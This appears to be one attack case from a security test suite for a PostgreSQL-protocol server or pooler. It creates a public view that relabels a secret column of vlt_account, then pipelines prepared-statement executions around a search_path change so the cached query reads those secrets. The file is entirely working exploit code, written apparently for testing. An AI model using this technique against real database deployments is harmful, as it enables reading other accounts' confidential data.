"""Runs a prepared query, sets another search path in the same round, and runs it again."""

from attacks.frames import SYNC, ask, bind, describe, execute, parse, whole
from attacks.talking import Server

WANTS = "read"
SETUP = """
CREATE SCHEMA aside;
CREATE VIEW aside.customer AS SELECT id, secret AS name FROM vlt_account;
GRANT USAGE ON SCHEMA aside TO PUBLIC;
GRANT SELECT ON aside.customer TO PUBLIC;
"""
TIMES = 5


def attack(server: Server) -> bytes:
    run = bind(b"s") + describe() + execute()
    with server.login() as client:
        # Nothing of the round has to wait until it is read.
        ask(client, parse(b"SET search_path = aside"), SYNC)
        ask(client, parse(b"SELECT name FROM customer", b"s"), SYNC)
        return ask(client, run * TIMES, whole(b"SET search_path = aside"), run * TIMES, SYNC)
